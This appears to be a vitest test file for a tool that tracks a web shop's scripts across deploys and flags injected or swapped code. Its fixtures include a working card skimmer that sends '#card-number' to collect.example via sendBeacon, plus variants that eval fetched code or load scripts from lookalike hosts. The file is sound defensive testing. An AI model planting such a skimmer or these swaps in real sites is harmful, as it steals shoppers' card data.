import { carried, type DeployedScript, deploysOf, factsOf, followDeploys, platforms } from '@tillwatch/testbed/deploys'
import { describe, expect, it } from 'vitest'
import type { ScriptFacts } from '#changes/facts.ts'

describe('a shop that is deployed ten times', () => {
  it.each(platforms)('keeps the identity of each script, with %s', (platform) => {
    for (let seed = 1; seed <= 8; seed++) {
      const { moved, fresh, held } = followDeploys(deploysOf(platform, seed))
      expect({ seed, moved, fresh }).toEqual({ seed, moved: [], fresh: [] })
      expect(held).toBeGreaterThan(60)
    }
  })

  it('does so by pairing if a hash reads like a word', () => {
    const pairs = [1, 2, 3, 4].map((seed) => followDeploys(deploysOf('vite', seed)).carried)
    expect(pairs.reduce((sum, each) => sum + each, 0)).toBeGreaterThan(5)
  })
})

/** A script of the shop whose name contains a hash that reads like words. */
const code = `const form=document.querySelector("form.voucher");async function check(code){const answer=await fetch("/api/vouchers/"+encodeURIComponent(code));return answer.ok?answer.json():null}
form?.addEventListener("submit",async(event)=>{event.preventDefault();const found=await check(form.code.value);form.querySelector("output").textContent=found?"−"+found.percent+" %":"?"});`
const renamed = code.replaceAll('answer', 'a').replaceAll('found', 'f').replaceAll('check', 'c')
const skimmer = `document.addEventListener("change",()=>{const n=document.querySelector("#card-number");if(n)navigator.sendBeacon("https://collect.example/p",n.value)});`
const other = `const box=document.createElement("div");box.className="consent";box.innerHTML="<p>We use cookies.</p>";document.body.append(box);box.addEventListener("click",()=>{document.cookie="consent=1;max-age=31536000";box.remove()});`
const tag = `!function(w,d,s,u){w.tagQ=w.tagQ||[];const e=d.createElement(s);e.async=true;e.src=u;d.head.append(e)}(window,document,"script","https://tags.vendor.example/c.js?id=AW-100200300");`
const padded = (text: string, length: number) => text + ' '.repeat(Math.max(0, length - text.length))

const at = (url: string | null, text = code, given: Partial<ScriptFacts> = {}): ScriptFacts => {
  const kind: DeployedScript['kind'] = url === null ? 'inline' : 'module'
  return factsOf({ is: `${url}`, kind, url, code: text }, given)
}
const old = at('https://shop.example/assets/voucher-KestRelo.js')
const fresh = 'https://shop.example/assets/voucher-BoldPine.js'

it('keeps an identity for the same program in another build, by its code', () => {
  expect(renamed).not.toBe(code)
  expect(carried([old], [at(fresh, renamed)])).toMatchObject([{ from: `address:${fresh.slice(8)}`, to: old.identity }])
  expect(carried([old], [at(fresh)])).toHaveLength(1)
})

it.each([
  ['/cache/minify/7c1e0.js', '/cache/minify/b04d8.js'],
  ['/minified/q2m7x9k4/zr3kw.js', '/minified/h8v2c6p1/t4qxj.js'],
  ['/js/voucher.Zk3Qe.js', '/js/voucher.pB7xw.js'],
  ['/js/voucher-xKqTzW.js', '/js/voucher-QpbRzv.js'],
  ['/min/qzkwx.js', '/min/xjvqk.js'],
  ['/assets/voucher-Xk7-Bold_2q.js', '/assets/voucher-Pine_9x-Zk3w.js'],
])('keeps an identity for builds with short names: %s and %s', (was, is) => {
  const before = [at(`https://shop.example${was}`)]
  const after = [at(`https://shop.example${is}`, renamed)]
  const same = after[0]!.identity === before[0]!.identity
  expect(carried(before, after).map(({ to }) => to)).toEqual(same ? [] : [before[0]!.identity])
  expect(carried(before, [at(`https://shop.example${is}`)])).toHaveLength(same ? 0 : 1)
  for (const text of [skimmer, other, `${code}\n${skimmer}`])
    expect(carried([at('https://shop.example/cache/minify/7c1e0.js')], [at('https://shop.example/cache/minify/b04d8.js', text)])).toEqual(
      [],
    )
})

it('keeps the identity of an inline script in its next release in the same place, and additions beside it stay new', () => {
  const released = `${code}\nfunction visible(e){const r=e.getBoundingClientRect();return r.top<innerHeight&&r.bottom>0}`
  const [before, after] = [at(null), at(null, released)]
  expect(before.identity).not.toBe(after.identity)
  expect(carried([before], [after, at(null, other)])).toEqual([{ from: after.identity, to: before.identity, by: 'likeness' }])
})

/** New or swapped scripts, by the attacker's goal. */
const swapped: [what: string, before: ScriptFacts[], after: ScriptFacts[]][] = [
  ['a skimmer under a name that looks built', [old], [at(fresh, skimmer)]],
  ['the program with a skimmer behind it', [old], [at(fresh, `${code}\n${skimmer}`)]],
  ['the program with a skimmer before it', [old], [at(fresh, `${skimmer}\n${code}`)]],
  ['the program that sends to another host', [old], [at(fresh, code.replace('"/api/vouchers/"', '"https://shop-api.example/v/"'))]],
  [
    'the program that reads the card',
    [old],
    [at(fresh, code.replaceAll('form.code.value', 'document.querySelector("#card-number").value'))],
  ],
  ['the program that takes code of another host in', [old], [at(fresh, `import "https://cdn.shop-assets.example/a.js";${code}`)]],
  ['the program that runs what it is told', [old], [at(fresh, code.replace('answer.json()', 'eval(await answer.text())'))]],
  ['the program that replaces a function of the browser', [old], [at(fresh, `${code}window.fetch=new Proxy(window.fetch,{});`)]],
  ['the same bytes from a foreign host', [old], [at('https://shop-static.example/assets/voucher-BoldPine.js')]],
  ['the same bytes from a host that is spelled alike', [old], [at('https://shop.examp1e/assets/voucher-BoldPine.js')]],
  ['the same bytes from a host below', [old], [at('https://assets.shop.example/assets/voucher-BoldPine.js')]],
  ['the same bytes from another port', [old], [at('https://shop.example:8443/assets/voucher-BoldPine.js')]],
  ['the same bytes without encryption', [old], [at('http://shop.example/assets/voucher-BoldPine.js')]],
  ['the same bytes from a folder where anyone can upload', [old], [at('https://shop.example/uploads/voucher-BoldPine.js')]],
  ['the same bytes under another word', [at('https://shop.example/js/touch-icon.js')], [at('https://shop.example/js/touch-idol.js')]],
  ['the same bytes under a longer name', [at('https://shop.example/js/cart.js')], [at('https://shop.example/js/cart-overview.js')]],
  ['the same bytes under one more word', [at('https://shop.example/js/cart.js')], [at('https://shop.example/js/cart-contents.js')]],
  [
    'the same bytes under a name that is spelled alike',
    [at('https://shop.example/js/checkout.js')],
    [at('https://shop.example/js/chekout.js')],
  ],
  ['another program of the same size', [old], [at(fresh, padded(other, code.length))]],
  ['another program of the same size in the same place', [at(null)], [at(null, padded(other, code.length))]],
  ['an inline skimmer where a script was', [at(null)], [at(null, skimmer)]],
  ['a tag of another account', [at(null, tag)], [at(null, `${tag.replace('AW-100200300', 'AW-900800700')};0`)]],
  [
    'a tag that works for another account by its address',
    [at('https://tags.vendor.example/t.js?merchant=shop', tag)],
    [at('https://tags.vendor.example/t.js?merchant=stranger', tag)],
  ],
  [
    'a tag that works for another account by its folder',
    [at('https://tags.vendor.example/accounts/30040050/t.js', tag)],
    [at('https://tags.vendor.example/accounts/60070080/t.js', tag)],
  ],
  [
    'a tag that works for another account by a number in its address',
    [at('https://tags.vendor.example/t.js?account=30040050', tag)],
    [at('https://tags.vendor.example/t.js?account=60070080', tag)],
  ],
  [
    'another program for another route',
    [at('https://shop.example/nodes/3.Zk_qTx-w.js')],
    [at('https://shop.example/nodes/7.DhWqRtzP.js', other)],
  ],
  ['the program in a frame of a stranger', [at(null)], [at(null, `${code};0`, { frame: { id: 'x', url: 'https://ads.example/f' } })]],
  ['the program in a frame that is not the merchant’s', [old], [at(fresh, renamed, { scope: 'other' })]],
  ['a file in the place of inline code', [at(null)], [at(fresh)]],
  ['a file of which the content is not known', [old], [at(fresh, code, { sha256: null })]],
  ['a copy beside a program that is still there', [old], [old, at(fresh)]],
  ['a half of the program with another program', [old], [at(fresh, `${code.slice(0, code.indexOf('\n'))}\n${other}${other}`)]],
]

describe('files named only by a hash', () => {
  const nameless = (hash: string, text: string) => at(`https://shop.example/_nuxt/${hash}.js`, text)
  const [first, second] = [nameless('B7xQ2zKw', code), nameless('QzR2KxWv', other)]

  it('have one identity each, by their shape, for any file names and variables of a build', () => {
    expect(first.identity).not.toBe(second.identity)
    expect(nameless('DhWqRtzP', renamed).identity).toBe(first.identity)
  })
  it('keep it in a release that adds to one of them', () => {
    const released = `${code}\nfunction visible(e){const r=e.getBoundingClientRect();return r.top<innerHeight&&r.bottom>0}`
    const after = [nameless('XjvQk2pZ', released), nameless('K3vzW8xq', other)]
    expect(carried([first, second], after)).toMatchObject([{ from: after[0]!.identity, to: first.identity }])
  })
  it('keep it if a hash has ordinary letters and half of the code stays', () => {
    const released = `${code}\nfunction visible(e){const r=e.getBoundingClientRect();return r.top<innerHeight&&r.bottom>0}\nfunction shown(e){return visible(e)&&!e.hidden&&e.offsetParent!==null}`
    const [was, is] = [nameless('-WA_B_Eg', code), nameless('ms_1oyNS', released)]
    expect(carried([was], [is])).toMatchObject([{ from: is.identity, to: was.identity }])
    const words = [nameless('Card_Pay', code), nameless('Cart_Pay', `${other}${other}`)] as const
    expect(carried([words[0]], [words[1]])).toEqual([])
  })
  it.each([
    ['beside them', [first, second, nameless('Zk3QeT7w', skimmer)]],
    ['in the place of one of them', [first, nameless('Zk3QeT7w', skimmer)]],
    ['within one of them', [first, nameless('Zk3QeT7w', `${other}\n${skimmer}`)]],
  ])('give none of their identities to a skimmer that is put %s', (_where, after) => {
    expect([first, second].map(({ identity }) => identity)).not.toContain(after.at(-1)!.identity)
    expect(carried([first, second], after)).toEqual([])
  })
})

describe('a new script', () => {
  it.each(swapped)('is never mistaken for a removed one: %s', (_, before, after) => {
    expect(carried(before, after)).toEqual([])
  })

  it('never merges two identities', () => {
    const shared = at('https://shop.example/assets/voucher-B7xQ2zKw.js')
    const second = at('https://shop.example/assets/voucher-QzR2KxWv.js', other)
    const before = [at('https://shop.example/assets/voucher-KestRelo.js'), at('https://shop.example/assets/voucher-BoldPine.js', other)]
    expect(shared.identity).toBe(second.identity)
    expect(carried(before, [shared, second])).toEqual([])
  })
})
